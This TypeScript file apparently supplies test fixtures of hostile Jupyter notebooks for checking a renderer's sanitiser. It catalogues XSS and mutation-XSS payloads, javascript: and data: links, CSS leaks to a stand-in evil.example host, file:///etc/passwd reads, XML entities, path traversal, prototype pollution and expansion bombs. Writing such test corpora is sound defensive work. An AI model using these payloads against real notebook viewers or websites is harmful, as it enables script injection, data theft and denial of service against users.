import { code, display, markdown, pixel, stream } from '../build-notebook.ts';

export const out = (data: object, metadata: object = {}) => [code('', [display(data, metadata)])];
export const html = (source: string) => out({ 'text/html': source });
export const md = (source: string) => [markdown(source)];

/** What every one of these notebooks says about itself. */
export const hostileMetadata = {
  title: '</title><script>alert(1)</script>',
  authors: [{ name: '"><img src=x onerror=alert(1)>' }],
  kernelspec: { name: '"><script>alert(1)</script>', display_name: '<script>alert(1)</script>' },
  language_info: { name: 'python"><script>alert(1)</script>', file_extension: '/../../x' },
  colab: { name: '<script>', provenance: [{ file_id: '"><script>alert(1)</script>' }] },
  widgets: {
    'application/vnd.jupyter.widget-state+json': {
      version_major: 2,
      version_minor: 0,
      state: {
        m: {
          model_name: 'VBoxModel',
          model_module: '<script>',
          state: {
            children: [
              'IPY_MODEL_h',
              'IPY_MODEL_i',
              'IPY_MODEL_l',
              'IPY_MODEL_m',
              'IPY_MODEL_p',
              'IPY_MODEL_o',
              'IPY_MODEL_t',
            ],
            layout: 'IPY_MODEL_y',
          },
        },
        h: {
          model_name: 'HTMLModel',
          state: {
            value: '<script>alert(1)</script><img src=x onerror=alert(1)>',
            description: '<script>alert(1)</script>',
          },
        },
        i: {
          model_name: 'ImageModel',
          state: { format: 'svg+xml', value: { dtype: 'uint8' }, width: '1" onload="alert(1)' },
          buffers: [{ path: ['value'], encoding: 'base64', data: 'PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+' }],
        },
        l: {
          model_name: 'LabelModel',
          state: {
            value: '$\\href{javascript:alert(1)}{x}$<script>alert(1)</script>',
            tooltip: '"><script>',
          },
        },
        p: {
          model_name: 'FloatProgressModel',
          state: {
            value: '1" onclick="alert(1)',
            max: '<script>',
            style: 'IPY_MODEL_s',
            bar_style: 'x"><script>',
          },
        },
        o: {
          model_name: 'OutputModel',
          state: {
            outputs: [{ output_type: 'display_data', data: { 'text/html': '<script>alert(1)</script>' } }],
          },
        },
        t: {
          model_name: 'TabModel',
          state: {
            children: ['IPY_MODEL_h'],
            titles: ['<img src=x onerror=alert(1)>'],
            _titles: { 0: '<script>' },
          },
        },
        s: { model_name: 'ProgressStyleModel', state: { bar_color: 'url(https://evil.example/bar)' } },
        y: {
          model_name: 'LayoutModel',
          state: {
            width: '100vw;position:fixed',
            border: 'url(https://evil.example/b)',
            grid_area: '}body{display:none}',
          },
        },
      },
    },
  },
};

/** Notebooks that try to run, load, cover or take something, by what they try: their cells. */
export const attacks: Record<string, object[]> = {
  'script in Markdown': md('<script>alert(1)</script>'),
  'image handler': md('<img src=x onerror=alert(1)>'),
  'javascript: links': md(
    '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) <a href="java&#10;script:alert(1)">c</a> <a href="&#1;javascript:alert(1)">d</a>',
  ),
  'javascript: and data: pictures': md(
    '![a](javascript:alert(1)) ![b](data:text/html,<script>alert(1)</script>) ![c](data:image/svg+xml,<svg/onload=alert(1)>)',
  ),
  'data:text/html link': md('[a](data:text/html;base64,PHNjcmlwdD4=)'),
  'reference definition': md('[a][b]\n\n[b]: javascript:alert(1)'),
  autolinks: md('<javascript:alert(1)> <data:text/html,x> <vbscript:x>'),
  'frame with srcdoc': md('<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
  'frame of a script': md('<iframe src="javascript:alert(1)"></iframe>'),
  'SVG in Markdown': md(
    '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><set attributeName=href to=javascript:alert(1)></a></svg>',
  ),
  'math link': md(
    '$\\href{javascript:alert(1)}{x} \\htmlData{x=y}{z} \\includegraphics{https://evil.example/x.png}$',
  ),
  'HTML in math': md('$<img src=x onerror=alert(1)>$ $$</math><script>alert(1)</script>$$'),
  'MathML from the author': md(
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  ),
  'fence info': md('```python"><script>alert(1)</script>\nx\n```'),
  'mermaid click': md('```mermaid\nclick A "javascript:alert(1)"\n```'),
  'attachment of the wrong type': [
    markdown('![x](attachment:a.png)', {
      attachments: { 'a.png': { 'text/html': '<script>alert(1)</script>' } },
    }),
  ],
  'attachment with a body of HTML': [
    markdown('![x](attachment:a.png)', {
      attachments: { 'a.png': { 'image/png': '<script>alert(1)</script>' } },
    }),
  ],
  'attachment named like a prototype': [markdown('![x](attachment:constructor) ![y](attachment:__proto__)')],
  'attachment that climbs': [
    markdown('![x](attachment:../../../etc/passwd)', {
      attachments: { '../../../etc/passwd': { 'image/png': pixel } },
    }),
  ],
  'heading with markup': md('# <img src=x onerror=alert(1)> "><script>alert(1)</script>'),
  clobbering: md(
    '<img name=cookie> <form id=x><input name=body></form> <a id=getElementById></a> <a id=x name=y></a>',
  ),
  'overlay by style': md(
    '<div style="position:fixed;inset:0;z-index:9999;background:url(https://evil.example)">x</div><style>*{display:none}</style>',
  ),
  'overlay by class': md('<div class="fixed inset-0 z-50 modal">x</div>'),
  'link and import': md(
    '<link rel=stylesheet href=https://evil.example/x.css><style>@import "https://evil.example"</style>',
  ),
  'meta, base, form': md(
    '<meta http-equiv=refresh content="0;url=https://evil.example"><base href=https://evil.example><form action=https://evil.example><button>x</button></form>',
  ),
  'mXSS by table and math': md(
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ),
  'mXSS by comment': html('<!--><img src=x onerror=alert(1)>--> <![CDATA[<img src=x onerror=alert(1)>]]>'),
  'parser differentials': md(
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp><plaintext>',
  ),
  'unclosed elements': md('<div><b><textarea><title><select>'),
  'script in output': html('<b>x</b><script>alert(1)</script>'),
  'frames in output': html(
    '<iframe src="https://evil.example" sandbox></iframe><object data=x></object><embed src=x>',
  ),
  'folium srcdoc': html('<iframe srcdoc="&lt;script&gt;top.location=1&lt;/script&gt;"></iframe>x'),
  'SVG output': out({
    'image/svg+xml':
      '<svg onload="alert(1)"><script>alert(1)</script><foreignObject><iframe/></foreignObject><image href="https://evil.example"/></svg>',
  }),
  'script split over lines': [
    code('', [
      {
        output_type: 'display_data',
        metadata: {},
        data: { 'text/html': ['x<scr', 'ipt>alert(1)</scr', 'ipt>'] },
      },
    ]),
  ],
  'script type': out({ 'application/javascript': 'alert(1)', 'text/plain': 'x' }),
  'PNG with HTML': out({ 'image/png': '"><script>alert(1)</script>', 'text/plain': 'x' }),
  'image metadata': out(
    { 'image/png': pixel },
    { 'image/png': { width: '1" onload="alert(1)', height: {}, alt: '"><script>alert(1)</script>' } },
  ),
  'SVG file name': out(
    { 'image/svg+xml': '<svg/>' },
    { filenames: { 'image/svg+xml': '"><script>alert(1)</script>' } },
  ),
  'widget view': out({
    'application/vnd.jupyter.widget-view+json': { model_id: '"><script>alert(1)</script>' },
    'text/plain': '<script>alert(1)</script>',
  }),
  'Plotly JSON': out({
    'application/vnd.plotly.v1+json': { data: [{ name: '<img src=x onerror=alert(1)>' }] },
  }),
  'Vega that loads': out({
    'application/vnd.vegalite.v5+json': { data: { url: 'file:///etc/passwd' } },
    'text/plain': 'x',
  }),
  'LaTeX output': out({ 'text/latex': '$\\href{javascript:alert(1)}{x}$ <script>alert(1)</script>' }),
  'Markdown output': out({ 'text/markdown': '<script>alert(1)</script>[x](javascript:alert(1))' }),
  'text output': out({ 'text/plain': '<script>alert(1)</script>' }),
  'terminal link': [
    code('', [stream('\u001b]8;;javascript:alert(1)\u0007x\u001b]8;;\u0007 <script>alert(1)</script>')]),
  ],
  traceback: [
    code('', [
      {
        output_type: 'error',
        ename: '<script>',
        evalue: '<img src=x onerror=alert(1)>',
        traceback: ['<script>alert(1)</script>'],
      },
    ]),
  ],
  'stream name': [code('', [stream('x', '"><script>alert(1)</script>')])],
  'media type as attribute': out({ 'text/x"><script>alert(1)</script>': 'x', 'text/plain': 'y' }),
  'JSON keys': out({
    'application/json': { '<script>alert(1)</script>': '<img src=x onerror=alert(1)>', __proto__: 1 },
  }),
  'media handlers': html(
    '<video src=x onerror=alert(1) autoplay><source src="javascript:alert(1)" onerror=alert(1)></video><details ontoggle=alert(1) open>x</details>',
  ),
  'Styler CSS': html(
    '<style>#T_1{background:url(https://evil.example)} body{display:none} </style><style></style><img src=x onerror=alert(1)></style><table id=T_1></table>',
  ),
  'Colab table': html(
    '<div id="df-1"><script>const x=document</script><button onclick="convert()">x</button><table class=dataframe><tr><td>1</table></div>',
  ),
  'cell metadata': [
    {
      ...code('x'),
      id: '"><script>',
      metadata: { tags: ['"><script>alert(1)</script>', 'a b'], label: '"><b>' },
    },
  ],
  'execution count': [{ ...code('x'), execution_count: '<script>alert(1)</script>' }],
  'raw HTML cell': [
    {
      cell_type: 'raw',
      metadata: { format: 'text/html' },
      source: '<script>alert(1)</script><b onclick=x>y</b>',
    },
  ],
  'front matter': [
    { cell_type: 'raw', metadata: {}, source: '---\ntitle: "<script>alert(1)</script>"\n---' },
    markdown('# y'),
  ],
  'prototype pollution': [{ cell_type: 'raw', metadata: {}, source: '---\n__proto__:\n  polluted: 1\n---' }],
  'paths that climb': md('![x](file:///etc/passwd) [y](\\\\host\\share) ![z](//evil.example/x.png)'),
  'remote picture': md(
    '![x](https://evil.example/x.png) <img src="http://evil.example/y.png" srcset="https://evil.example/z 2x">',
  ),
  'remote pictures in output': html(
    '<img src="https://evil.example/x.png"><video poster="https://evil.example/y" src="https://evil.example/z"></video><table background="https://evil.example/t"><tr><td>x</table>',
  ),
  'custom element': md('<x-foo onclick=alert(1) is=y>z</x-foo>'),
  'command links': md(
    '<a data-commandlinker-command="x" href="command:x" target=_top ping=https://evil.example>y</a>',
  ),
  'huge picture': out({
    'image/png': Buffer.from('89504e470d0a1a0a0000000d49484452000fffff000fffff', 'hex').toString('base64'),
  }),
  // Animation can set what a sanitiser looked at before.
  'SMIL in an output': html(
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y=9>x</text></a><set attributeName="onmouseover" to="alert(1)"/></svg>',
  ),
  'SMIL in an SVG output': out({
    'image/svg+xml':
      '<svg xmlns="http://www.w3.org/2000/svg"><a><animate attributeName="xlink:href" begin="0s" values="javascript:alert(1)"/></a><discard/></svg>',
  }),
  'SVG that uses another': out({
    'image/svg+xml':
      '<svg xmlns:x="http://www.w3.org/1999/xlink"><use x:href="data:image/svg+xml,<svg id=a onload=alert(1)/>#a"/><use href="https://evil.example/a.svg#a"/><style>@import "https://evil.example/c"; *{fill:url(https://evil.example/f)}</style></svg>',
  }),
  'SVG with entities': out({
    'image/svg+xml':
      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b "<script>alert(1)</script>">]><svg><text>&a;&b;</text></svg>',
  }),
  'SVG with a style sheet': out({
    'image/svg+xml': '<?xml-stylesheet href="https://evil.example/x.css"?><svg><text>x</text></svg>',
  }),
  'SVG attachment': [
    markdown('![x](attachment:a.svg)', {
      attachments: {
        'a.svg': {
          'image/svg+xml': Buffer.from('<svg onload="alert(1)"><script>alert(1)</script></svg>').toString(
            'base64',
          ),
        },
      },
    }),
  ],
  'mXSS by style in SVG': html('<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
  'mXSS by title': html('<svg><title><style><img src=x onerror=alert(1)></style></title></svg>'),
  'mXSS by annotation': md(
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  ),
  'mXSS by nested forms': html(
    '<form><div></form><form><input name=parentNode></form></div><img src=x onerror=alert(1)>',
  ),
  'mXSS by select': html(
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
  ),
  'mXSS by attributes': html(
    '<p title="</p><img src=x onerror=alert(1)>" lang=\'"><script>alert(1)</script>\'>x</p>',
  ),
  'mXSS by back ticks': html('<img alt="`><script>alert(1)</script>" src=x>'),
  'mXSS by NUL and bytes': html(
    '<scr\u0000ipt>alert(1)</scr\u0000ipt><img src=x one\u0000rror=alert(1)> \uFF1Cscript\uFF1Ealert(1)',
  ),
  'half an element': html('x<img src=x onerror=alert(1) '),
  'handlers of all kinds': html(
    '<p onpointerenter=alert(1) onanimationstart=alert(1) oncontentvisibilityautostatechange=alert(1) onfocus=alert(1) tabindex=1 autofocus contenteditable popover accesskey=x style="content-visibility:auto">x</p><marquee onstart=alert(1)>y</marquee>',
  ),
  'clobbered globals': html(
    '<a id=cookie></a><img name=body><form name=forms><input name=attributes></form><object id=getElementById></object><embed name=x>',
  ),
  'CSS that tells letters': html(
    '<style>input[value^="a"]{background:url(https://evil.example/a)} a:visited{color:red} @font-face{font-family:f;src:url(https://evil.example/f)} p{font-family:f;cursor:url(https://evil.example/c),auto;list-style-image:url(https://evil.example/l)}</style><p>x</p>',
  ),
  'CSS in escapes': html(
    '<style>p{background:\\75\\72\\6c(https://evil.example/e)} p{width:expression(alert(1));behavior:url(#x);-moz-binding:url(x)}</style><p style="background:u\\72l(https://evil.example/s);position:fi\\78 ed">x</p>',
  ),
  'CSS that leaves its scope': html(
    '<style>x{}}body{display:none}</style><style>:is(body,#x) main{display:none} :root:has(*){display:none} @layer x{*{position:fixed}} @scope{*{display:none}} &{display:none}</style><p class="nb-notice nb-x">x</p>',
  ),
  'CSS in properties': html(
    '<table background="https://evil.example/b" style="--x:url(https://evil.example/v);background:var(--x)"><tr><td>x</table>',
  ),
  'math that is HTML': md(
    '$\\htmlStyle{position:fixed}{x} \\htmlClass{nb-x}{y} \\htmlId{cookie}{z} \\url{javascript:alert(1)} \\unicode{60}$ $$\\text{</annotation></semantics></math><img src=x onerror=alert(1)>}$$',
  ),
  'math that grows': md(
    '$\\def\\a{\\b\\b}\\def\\b{\\c\\c}\\def\\c{\\a\\a}\\a$ $\\rule{1000000em}{1000000em}$ $\\newcommand{\\x}{\\x\\x}\\x$ $\\kern{99999em}$',
  ),
  'widget state with scripts': [
    code('', [display({ 'application/vnd.jupyter.widget-view+json': { model_id: 'm' }, 'text/plain': 'x' })]),
  ],
  'Plotly that loads': out({
    'application/vnd.plotly.v1+json': {
      data: [
        {
          type: 'bar',
          x: ['<a href="javascript:alert(1)">x</a>'],
          y: [1],
          text: '<img src=https://evil.example/t>',
        },
      ],
      layout: {
        title: { text: '<script>alert(1)</script>' },
        images: [{ source: 'https://evil.example/i' }],
      },
    },
  }),
  'Vega with links and functions': out({
    'application/vnd.vega.v5+json': {
      width: 20,
      height: 20,
      signals: [{ name: 's', update: "constructor.constructor('alert(1)')()" }],
      marks: [
        {
          type: 'rect',
          encode: {
            enter: {
              href: { value: 'javascript:alert(1)' },
              x2: { value: 9 },
              y2: { value: 9 },
              fill: { value: 'red' },
            },
          },
        },
        {
          type: 'image',
          encode: {
            enter: {
              url: { value: 'https://evil.example/i.png' },
              width: { value: 9 },
              height: { value: 9 },
            },
          },
        },
        {
          type: 'text',
          encode: {
            enter: {
              text: { value: '</text><script>alert(1)</script>' },
              tooltip: { value: '<img src=x onerror=alert(1)>' },
            },
          },
        },
      ],
    },
    'text/plain': 'x',
  }),
  'Altair that is no specification': html(
    '<div id="vis"></div><script>vegaEmbed("#vis", {"mark":"bar","data":{"url":"https://evil.example/d.json"},"usermeta":{"embedOptions":{"loader":{"baseURL":"file:///"}}}}); alert(1)</script>',
  ),
  vdom: out({
    'application/vdom.v1+json': {
      tagName: 'div',
      attributes: {
        onclick: 'alert(1)',
        style: { position: 'fixed', background: 'url(https://evil.example/v)' },
        dangerouslySetInnerHTML: { __html: '<script>alert(1)</script>' },
      },
      children: [
        { tagName: 'script', children: ['alert(1)'] },
        { tagName: 'a', attributes: { href: 'javascript:alert(1)' }, children: ['x'] },
      ],
    },
  }),
  GeoJSON: out({
    'application/geo+json': {
      type: 'Feature',
      properties: {
        name: '<script>alert(1)</script>',
        'marker-symbol': '"><img src=x onerror=alert(1)>',
        stroke: 'url(https://evil.example/s)',
      },
      geometry: {
        type: 'LineString',
        coordinates: [
          [0, 0],
          ['"><script>', 1],
          [1, 1],
        ],
      },
    },
  }),
  'table schema': out({
    'application/vnd.dataresource+json': {
      schema: {
        fields: [
          { name: '<script>alert(1)</script>', type: 'string' },
          { name: '__proto__', type: 'x' },
        ],
      },
      data: [{ '<script>alert(1)</script>': '<img src=x onerror=alert(1)>' }],
    },
  }),
  Graphviz: out({
    'text/vnd.graphviz':
      'digraph { a [label=<<b>x</b>> URL="javascript:alert(1)" tooltip="</title><script>alert(1)</script>" image="/etc/passwd"] b [label="<script>alert(1)</script>" href="https://evil.example"] a -> b }',
    'text/plain': 'x',
  }),
  'Mermaid type': out({
    'text/vnd.mermaid': 'graph TD; A["<img src=x onerror=alert(1)>"]; click A "javascript:alert(1)"',
  }),
  'sound and PDF of HTML': [
    code('', [
      display({ 'audio/wav': '<script>alert(1)</script>' }),
      display({ 'application/pdf': 'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'text/plain': 'x' }),
      display({ 'image/svg+xml;x="><script>alert(1)</script>': '<svg/>', 'text/plain': 'x' }),
    ]),
  ],
  'directives and attributes': md(
    ':::{note} <script>alert(1)</script>\n:class: fixed "><img src=x onerror=alert(1)>\n[x](javascript:alert(1))\n:::\n\n```{raw} html\n<script>alert(1)</script>\n```\n\n```{image} javascript:alert(1)\n:alt: "><script>alert(1)</script>\n```\n\n::: {.callout-note onclick="alert(1)" style="position:fixed"}\nx\n:::\n\n[x]{onclick="alert(1)" style="position:fixed"} ![y](z.png){onerror=alert(1) style="position:fixed"}',
  ),
  'roles and references': md(
    '{raw}`<script>alert(1)</script>` {ref}`x <javascript:alert(1)>` {download}`x <../../../etc/passwd>` {abbr}`x ("><script>alert(1)</script>)` (x"><script>alert(1)</script>)=\n\n[^"><script>]: x\n\nsee[^"><script>] and @"><script>alert(1)</script> :<script>:',
  ),
  'option comments': [
    code(
      '#| label: ""><script>alert(1)</script>"\n#| fig-cap: "<img src=x onerror=alert(1)>"\n#| fig-alt: "" onerror=alert(1) x=""\n#| code-summary: "<script>alert(1)</script>"\n#| classes: "fixed inset-0"\n#| code-fold: true\nx',
      [display({ 'image/png': pixel })],
    ),
  ],
  'YAML that grows': [
    {
      cell_type: 'raw',
      metadata: {},
      source: `---\na: &a [x,x,x,x,x,x,x,x,x]\n${'bcdefghij'
        .split('')
        .map((key, index) => `${key}: &${key} [${`*${'abcdefghij'[index]},`.repeat(9)}]`)
        .join('\n')}\n---`,
    },
  ],
  'front matter everywhere': [
    {
      cell_type: 'raw',
      metadata: {},
      source:
        '---\ntitle: "</title><script>alert(1)</script>"\ndescription: ""><script>alert(1)</script>"\nauthor: "<img src=x onerror=alert(1)>"\ndate: "<script>"\nimage: "javascript:alert(1)"\nbibliography: "../../../../etc/passwd"\ncsl: "https://evil.example/x.csl"\nmath: {"\\\\x": "\\\\href{javascript:alert(1)}{x}"}\n---',
    },
    markdown('$\\x$'),
  ],
};
